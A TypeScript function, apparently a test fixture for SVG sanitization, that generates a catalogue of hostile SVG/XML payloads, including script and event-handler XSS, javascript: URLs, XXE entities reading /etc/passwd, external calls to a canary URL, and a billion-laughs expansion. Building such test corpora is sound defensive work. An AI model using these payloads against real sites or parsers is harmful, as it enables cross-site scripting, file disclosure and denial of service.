/** What has run scripts, read files or called home from inside an SVG. `canary` is where a call would arrive. */
export function svgPayloads(canary: string): readonly string[] {
  const svg = (inside: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
  const entity = (declaration: string) =>
    `<?xml version="1.0"?><!DOCTYPE svg [${declaration}]>${svg('<text>&x;</text>')}`;
  const call = `fetch('${canary}')`;
  return [
    svg(`<script>${call}</script>`),
    svg(`<script type="text/javascript"><![CDATA[${call}]]></script>`),
    svg(`<script xlink:href="${canary}"/>`),
    svg(`<script href="data:text/javascript,${call}"/>`),
    svg(`<SCRIPT>${call}</SCRIPT>`),
    svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`),
    svg('', `onload="${call}"`),
    svg(`<g onclick="${call}"><rect width="9" height="9"/></g>`),
    svg(`<image href="x" onerror="${call}"/>`),
    svg(`<image xlink:href="${canary}"/>`),
    svg(`<image href="file:///etc/passwd"/>`),
    svg(`<use href="${canary}#a"/>`),
    svg(
      `<use href="data:image/svg+xml,${encodeURIComponent(svg(`<script>${call}</script>`, 'id="a"'))}#a"/>`,
    ),
    svg(`<a href="javascript:${call}"><text>here</text></a>`),
    svg(`<a xlink:href="java&#x09;script:${call}"><text>here</text></a>`),
    svg(`<animate attributeName="href" values="javascript:${call}" href="#a"/><a id="a"/>`),
    svg(`<set attributeName="onmouseover" to="${call}"/>`),
    svg(`<animate onbegin="${call}" attributeName="x" dur="1s"/>`),
    svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${call}"/></foreignObject>`,
    ),
    svg(
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${call}"/></foreignObject>`,
    ),
    svg(
      `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${canary}"><input name="p"/></form></foreignObject>`,
    ),
    svg(
      `<foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="${canary}"/></foreignObject>`,
    ),
    svg(`<style>@import url("${canary}");</style>`),
    svg(`<style>text { background: url("${canary}") }</style>`),
    svg(`<filter id="f"><feImage href="${canary}"/></filter>`),
    svg(
      `<defs><font-face><font-face-src><font-face-uri href="${canary}"/></font-face-src></font-face></defs>`,
    ),
    `<?xml-stylesheet type="text/xsl" href="${canary}"?>${svg('')}`,
    `<?xml-stylesheet href="javascript:${call}"?>${svg('')}`,
    entity(`<!ENTITY x SYSTEM "file:///etc/passwd">`),
    entity(`<!ENTITY x SYSTEM "${canary}">`),
    entity(`<!ENTITY % y SYSTEM "${canary}"> %y;<!ENTITY x "">`),
    entity(
      `<!ENTITY a "${'lol'.repeat(9)}"><!ENTITY b "${'&a;'.repeat(9)}"><!ENTITY x "${'&b;'.repeat(9)}">`,
    ),
    `<!-- --><html xmlns="http://www.w3.org/1999/xhtml">${svg(`<script>${call}</script>`)}</html>`,
  ];
}
